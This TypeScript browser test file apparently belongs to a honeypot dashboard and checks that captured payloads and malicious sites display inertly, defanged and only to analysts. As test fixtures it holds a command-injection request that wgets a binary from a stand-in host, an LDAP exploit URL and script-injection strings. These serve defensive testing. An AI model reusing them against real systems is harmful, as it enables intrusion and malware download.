/** Payloads and malicious sites on the page: panels, the sheet of one, files, who may see them, and what hostile bytes can do: nothing. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Language, textOf } from '../../viz/text/text.ts';
import { browserInstalled, openBrowser, openPage } from '../support/browser.ts';
import { findings } from './axe.ts';
import { saved, stateOf } from './desk-page.ts';
import { MARKUP, noPayloads, payloadAnswers, payloads } from './fake-payloads.ts';
import { someTotals, startToldServer, type ToldServer } from './told-server.ts';

const ANALYST = { software: 'kurayami 0.1.0', role: 'analyst', name: 'Aoi' };
const VIEWER = { software: 'kurayami 0.1.0', role: 'viewer' };
const OTHERS = 'packets.ports.countries.networks.sources.map.rules.mix.sensors.distinct.ledger'
  .split('.')
  .map((id) => `.-${id}`)
  .join('');
const DESK = `quality=low&desk=full&panels=payloads.sites${OTHERS}&span=2026-01-31T12:00:00Z/2026-01-31T12:15:00Z`;

const panel = (page: Page, id: string) => page.locator(`[data-panel="${id}"]`);
const cells = (page: Page, id: string) =>
  panel(page, id)
    .locator('tbody tr')
    .evaluateAll((rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent ?? '')));
const sheet = (page: Page) => page.locator('.payload-dialog');

describe.skipIf(!browserInstalled)('payloads and malicious sites', () => {
  let browser: Browser;
  let server: ToldServer | undefined;
  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser?.close());

  async function withPage(
    { hello = ANALYST as object, answers = payloadAnswers, query = DESK, language = 'en' as Language },
    use: (page: Page, asked: string[]) => Promise<void>,
  ) {
    server = await startToldServer({ hello, totals: someTotals() }, { answers });
    const asked: string[] = [];
    const context = await browser.newContext();
    context.on('request', (request) => asked.push(request.url().replace(server!.url, '/')));
    const { page, problems } = await openPage(context, `${server.url}?lang=${language}&${query}`, 1440, 900);
    try {
      await use(page, asked);
      expect(problems.filter((problem) => !/status of 404/.test(problem))).toEqual([]);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
      // Nothing that a payload or a site names was ever asked for.
      expect(asked.filter((path) => !path.startsWith('/') || /192\.0\.2\./.test(path))).toEqual([]);
    } finally {
      await context.close();
      await server.close();
    }
  }

  const answered = (page: Page, id: string) =>
    expect.poll(() => stateOf(page, id), { timeout: 60_000 }).toBe('current');

  async function picture(page: Page, name: string): Promise<void> {
    if (process.env.KURAYAMI_PICTURES) await page.screenshot({ path: `test-output/pictures/payloads-${name}.png` });
  }

  test('the list says what came, of whom about how many, and what of the filter holds', async () => {
    const text = textOf('en');
    await withPage({ query: `${DESK}&filter=tcp+dst+port+80+and+country+JP` }, async (page, asked) => {
      await answered(page, 'payloads');
      const rows = await cells(page, 'payloads');
      expect(rows.length).toBe(payloads.length);
      expect(rows[1]![0]).toMatch(/^GET \/shell\?cd\+\/tmp;wget\+hxxp\[:\]\/\/192\.0\.2\.66/);
      expect(rows[1]!.slice(1, 4)).toEqual(['80/tcp HTTP', '12,345', 'about 310']);
      expect(rows[1]![4]).toBe('2026-01-31 12:00:03 UTC');
      expect(rows[0]![1]).toBe('80/tcp HTTP, 8080/tcp HTTP, 81/tcp, 8081/tcp, …');
      expect(rows[5]!.slice(0, 2)).toEqual([text.payloadEmpty, 'IP 1']);
      const list = asked.find((path) => path.startsWith('/api/v1/payloads?'))!;
      expect(Object.fromEntries(new URL(list, 'http://x').searchParams)).toEqual({
        order: 'packets',
        limit: '20',
        port: '80',
        protocol: 'tcp',
        session: '1',
        from: '2026-01-31T12:00:00Z',
        to: '2026-01-31T12:15:00Z',
      });
      // What cannot be applied is said, not passed over; sites know nothing of any filter.
      const [left] = await panel(page, 'payloads').locator('.desk-warned').allTextContents();
      expect(left).toBe(text.payloadsFilterLeft.replace('{filter}', 'country JP'));
      expect(await panel(page, 'sites').locator('.desk-warned').textContent()).toBe(text.sitesFilterLeft);
      expect(await panel(page, 'payloads').locator('.desk-note').last().textContent()).toContain('6 of 8 shown');
      const csv = (await saved(page, 'CSV', 'payloads')).bytes.toString('utf8');
      expect(csv).not.toMatch(/:\/\//);
      expect(csv.split('\r\n')[2]).toMatch(/,tcp dst port 80,no,0$/);
      await panel(page, 'payloads').getByRole('button', { name: text.payloadsWithSites }).press('Enter');
      await panel(page, 'payloads').getByRole('button', { name: text.orderLast }).press('Enter');
      await expect.poll(() => asked.filter((path) => /payloads\?order=last.*sites=true/.test(path)).length).toBe(1);
      expect(new URL(page.url()).searchParams.get('payloads')).toBe('last.sites');
    });
  });

  test('markup in a payload is text, in the list and on its sheet: the page has the same elements', async () => {
    const text = textOf('en');
    await withPage({}, async (page) => {
      await answered(page, 'payloads');
      await answered(page, 'sites');
      // All but the page's own, of which credits come when they are known.
      const strangers = () =>
        page.evaluate(() =>
          [...document.querySelectorAll('script, img, b, i, a:not([download])')]
            .filter((one) => !one.matches('head script, .skip-links a, .credits a'))
            .map(({ outerHTML }) => outerHTML),
        );
      expect(await strangers()).toEqual([]);
      const first = panel(page, 'payloads').locator('.payload-open').first();
      expect(await first.textContent()).toContain('<script>window.hacked=1</script><img src=x');
      await first.press('Enter');
      await sheet(page).locator('.dump tbody tr').first().waitFor();
      expect(await strangers()).toEqual([]);
      expect(await sheet(page).locator('a').count()).toBe(0);
      const dump = await sheet(page).locator('.dump td:nth-child(3)').allTextContents();
      const bytes = Buffer.from(MARKUP);
      expect(dump.join('')).toBe(
        Array.from(bytes, (byte) => (byte >= 32 && byte < 127 ? String.fromCharCode(byte) : '.')).join(''),
      );
      const hex = await sheet(page).locator('.dump td:nth-child(2)').allTextContents();
      expect(hex.join('').replace(/ /g, '')).toBe(bytes.toString('hex'));
      // Neither control characters nor letters that turn others around are anywhere on the page.
      const odd = await page.evaluate(() =>
        [...(document.body.textContent ?? '')]
          .map((one) => one.codePointAt(0)!)
          .filter(
            (code) =>
              (code < 32 && code !== 9 && code !== 10) ||
              (code > 126 && code < 160) ||
              (code >= 0x202a && code <= 0x202e) ||
              (code >= 0x2066 && code <= 0x2069),
          ),
      );
      expect(odd).toEqual([]);
      expect(await sheet(page).locator('h2').textContent()).toBe('Payload 0123456789abcdef');
      // Defanged, although the server did not.
      expect(await sheet(page).locator('.payload-sites .site-address').textContent()).toMatch(/^hxxp\[:\]\/\/192/);
      expect(await sheet(page).locator('.payload-sites').textContent()).toContain('<i>rot13</i>');
      expect(await findings(page)).toEqual([]);
      // Sources lead to their sheets, and Escape closes what is open.
      const sources = sheet(page).locator('[data-source]');
      expect(await sources.allTextContents()).toEqual(['203.0.113.5', '2001:db8::9']);
      await sources.first().press('Enter');
      await page.locator('.about-dialog[open]').waitFor();
      expect(new URL(page.url()).searchParams.get('about')).toBe('source:203.0.113.5');
      expect(await sheet(page).isVisible()).toBe(false);
      await page.keyboard.press('Escape');
      // The browser closes the dialog before it tells of it, and the address follows what is told.
      await expect.poll(() => new URL(page.url()).searchParams.get('about')).toBeNull();
      await expect.poll(() => page.locator('dialog[open]').count()).toBe(0);
      expect(await page.locator('.payload-open').first().textContent()).not.toBe(text.waiting);
    });
  });

  test('sites are harmless, lead to their payloads, and are saved by the server', async () => {
    const text = textOf('en');
    await withPage({ query: `${DESK}&sites=sources` }, async (page, asked) => {
      await answered(page, 'sites');
      const rows = await cells(page, 'sites');
      expect(rows[0]!.slice(0, 5)).toEqual([
        'hxxp[:]//192[.]0[.]2[.]66/bins/arm7',
        `wget${text.siteHidden.replace('{steps}', text.stepPlus)}`,
        '12,345',
        '3',
        'about 310',
      ]);
      expect(rows[1]![0]).toBe(`ldap[:]//192[.]0[.]2[.]77:1389/Exploit${text.siteCut}`);
      expect(rows[2]![0]).toBe('hxxp[:]//192.0.2.66/<img src=x onerror="window.hacked=1">.');
      expect(await panel(page, 'sites').locator('.desk-note').last().textContent()).toContain(text.sitesNote);
      const links = panel(page, 'sites').locator('a');
      for (const [at, format] of ['csv', 'ndjson'].entries()) {
        const coming = page.waitForEvent('download');
        await links.nth(at).press('Enter');
        const download = await coming;
        expect(download.suggestedFilename()).toMatch(
          new RegExp(`^kurayami-malicious-sites-session1-2026.*\\.${format}$`),
        );
        expect(download.url()).toMatch(
          new RegExp(
            `/api/v1/malicious-sites\\?order=sources&limit=1000&format=${format}&session=1&from=2026-01-31T12`,
          ),
        );
      }
      // A payload that cannot be named is not opened.
      const opens = panel(page, 'sites').locator('.payload-open');
      expect(await opens.nth(2).isDisabled()).toBe(true);
      await opens.first().press('Enter');
      await sheet(page).locator('.dump tbody tr').first().waitFor();
      expect(asked.filter((path) => path.startsWith(`/api/v1/payloads/${payloads[1]!.id}?session=1`)).length).toBe(1);
    });
  });

  test('a viewer is told why there is nothing, nothing is asked, and nothing can be saved', async () => {
    const text = textOf('en');
    await withPage({ hello: VIEWER, query: `${DESK}&about=payload:${payloads[0]!.id}` }, async (page, asked) => {
      await expect.poll(() => sheet(page).locator('.about-told').textContent()).toBe(text.payloadsForAnalysts);
      expect(await sheet(page).locator('.payload-figures').isVisible()).toBe(false);
      await page.keyboard.press('Escape');
      for (const id of ['payloads', 'sites']) {
        await answered(page, id);
        expect(await panel(page, id).locator('.desk-for-analysts p').textContent()).toBe(text.payloadsForAnalysts);
        expect(await panel(page, id).locator('table').isVisible()).toBe(false);
        expect(await panel(page, id).getByRole('button', { name: 'CSV' }).isDisabled()).toBe(true);
      }
      await picture(page, 'viewer');
      expect(asked.filter((path) => /payloads|malicious/.test(path.split('?')[0]!))).toEqual([]);
      await panel(page, 'sites').getByRole('button', { name: text.signIn }).press('Enter');
      await page.locator('.sign-in-token').waitFor();
    });
  });

  test('who signs out loses what was shown', async () => {
    await withPage({}, async (page) => {
      await answered(page, 'payloads');
      expect((await cells(page, 'payloads')).length).toBe(payloads.length);
      await panel(page, 'payloads').locator('.payload-open').nth(1).press('Enter');
      await sheet(page).locator('.dump tbody tr').first().waitFor();
      expect(await page.content()).toContain('67 65 74 2b');
      server!.told.hello = VIEWER;
      server!.drop();
      await panel(page, 'payloads').locator('.desk-for-analysts').waitFor({ timeout: 60_000 });
      await expect.poll(() => page.content()).not.toMatch(/arm7|67 65 74 2b|192.{1,3}0.{1,3}2.{1,3}66/);
      server!.told.hello = ANALYST;
      server!.drop();
      await expect.poll(() => page.content(), { timeout: 60_000 }).toContain('67 65 74 2b');
      await expect.poll(async () => (await cells(page, 'payloads')).length).toBe(payloads.length);
    });
  });

  test('what is not there any more is said, and what would have to come', async () => {
    const text = textOf('en');
    const answers = { ...noPayloads, [`/api/v1/payloads/${payloads[0]!.id}`]: '{"payloads":"none"}' };
    await withPage({ answers, query: `${DESK}&about=payload:${payloads[0]!.id}` }, async (page) => {
      await expect.poll(() => sheet(page).locator('.about-told').textContent()).toBe(text.deskUnreadable);
      await page.keyboard.press('Escape');
      await answered(page, 'payloads');
      await answered(page, 'sites');
      expect(await panel(page, 'payloads').locator('.payload-none').textContent()).toBe(text.payloadsNone);
      expect(await panel(page, 'sites').locator('.payload-none').textContent()).toBe(text.sitesNone);
      expect(await panel(page, 'sites').locator('a').first().isVisible()).toBe(false);
      await picture(page, 'none');
    });
  });

  test.for(['en', 'ja'] as const)('nothing is cut off or wider than its window, at any size: %s', async (language) => {
    await withPage({ language }, async (page) => {
      await answered(page, 'payloads');
      await answered(page, 'sites');
      if (language === 'ja') expect(await englishOf(page)).toEqual([]);
      for (const [width, height] of [
        [1440, 900],
        [1920, 1080],
        [390, 844],
      ] as const) {
        await page.setViewportSize({ width, height });
        await page.waitForTimeout(500);
        await picture(page, `panels-${language}-${width}`);
        const cut = await page.evaluate(() =>
          [
            ...document.querySelectorAll<HTMLElement>(
              '.payload-panel th, .payload-panel .desk-choice, .payload-panel p',
            ),
          ]
            .filter((one) => one.offsetParent !== null && one.scrollWidth > one.clientWidth + 1)
            .map((one) => one.textContent),
        );
        expect(cut, `${width}`).toEqual([]);
      }
      for (const at of [0, 1, 4]) {
        await page.setViewportSize({ width: 1440, height: 900 });
        await panel(page, 'payloads').locator('.payload-open').nth(at).press('Enter');
        await sheet(page).locator('.dump tbody tr').first().waitFor();
        for (const [width, height] of [
          [1440, 900],
          [1920, 1080],
          [390, 844],
        ] as const) {
          await page.setViewportSize({ width, height });
          await page.waitForTimeout(300);
          await picture(page, `sheet-${at}-${language}-${width}`);
          expect(await sheet(page).evaluate((one) => one.scrollWidth - one.clientWidth), `${width}`).toBe(0);
        }
        if (language === 'ja') expect(await englishOf(page)).toEqual([]);
        await page.keyboard.press('Escape');
        await sheet(page).waitFor({ state: 'hidden' });
      }
    });
  });
});

/** Names, formats and services that are the same in every language. */
const NAMES =
  /^(TCP|UDP|IP|UTC|CSV|NDJSON|PNG|SHA|ASCII|Base|Log|SYN|HTTPS?|NTP|DNS|mDNS|SNMP|PowerShell|tftp|ftpget|certutil)$/;

/** What of the words in panels and sheet is neither Japanese, nor a name, nor data. */
function englishOf(page: Page): Promise<string[]> {
  const data =
    JSON.stringify(payloadAnswers) + payloads.map(({ hex }) => Buffer.from(hex, 'hex').toString('latin1')).join('');
  return page.evaluate(
    ({ data: known, names }) => {
      const isName = new RegExp(names);
      const out = new Set<string>();
      for (const part of document.querySelectorAll('.desk-panel, .payload-dialog[open]'))
        for (const one of part.querySelectorAll('*')) {
          if (one.closest('.payload-open, .dump td, .site-address')) continue;
          const own = [...one.childNodes]
            .filter((node) => node.nodeType === Node.TEXT_NODE)
            .map((node) => node.textContent);
          const told = ['title', 'aria-label'].map((name) => one.getAttribute(name) ?? '');
          for (const word of [...own, ...told].join(' ').match(/[A-Za-z]{2,}/g) ?? [])
            if (!isName.test(word) && !known.includes(word)) out.add(word);
        }
      return [...out];
    },
    { data, names: NAMES.source },
  );
}
